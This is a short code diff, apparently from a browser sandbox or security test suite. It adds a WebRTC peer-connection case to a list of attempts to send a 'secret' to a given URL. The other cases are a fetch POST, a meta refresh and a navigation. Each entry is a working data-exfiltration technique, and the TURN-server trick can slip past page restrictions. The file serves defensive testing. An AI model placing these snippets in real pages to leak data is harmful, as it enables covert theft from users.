@@ -87,6 +87,12 @@ const ATTEMPTS = {
   "a fetch": (url) => void fetch(`${url}/secret`, { method: "POST", body: "secret", mode: "no-cors" }).catch(() => {}),
   "a refresh": (url) => (document.head.innerHTML = `<meta http-equiv="refresh" content="0;url=${url}/secret">`),
   "a navigation": (url) => void (location.href = `${url}/secret`),
+  "a peer connection": async (url) => {
+    const { hostname, port } = new URL(url);
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: `turn:${hostname}:${port}?transport=tcp`, username: "secret", credential: "b" }] });
+    peer.createDataChannel("secret");
+    await peer.setLocalDescription(await peer.createOffer());
+  },
   "the page's own address": () => void (top.location.href = "about:blank"),
 };
 
